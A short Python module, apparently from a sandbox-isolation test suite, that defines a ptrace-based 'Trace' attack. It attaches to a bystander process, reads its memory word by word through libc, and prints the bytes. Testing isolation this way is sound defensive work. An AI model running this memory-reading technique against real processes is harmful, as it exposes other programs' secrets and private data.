"""Takes control of another process as a debugger does, and reads its memory.

kind: ptrace
sandbox: played
process: played, leak?
"""

import ctypes
import os

from attack import Attack, attempt, call

ATTACH, DETACH, PEEK = 16, 17, 2


def read(pid, address, length):
    call("ptrace", ATTACH, pid, None, None)
    try:
        os.waitpid(pid, 0)
        words = [call_peek(pid, address + offset) for offset in range(0, length, 8)]
    finally:
        call("ptrace", DETACH, pid, None, None)
    print(b"".join(words))


def call_peek(pid, address):
    libc = ctypes.CDLL(None)
    libc.ptrace.restype = ctypes.c_long
    return libc.ptrace(PEEK, pid, ctypes.c_void_p(address), None).to_bytes(8, "little", signed=True)


class Trace(Attack):
    def attack(self, view):
        attempt(lambda: read(**self.targets["bystander"]))
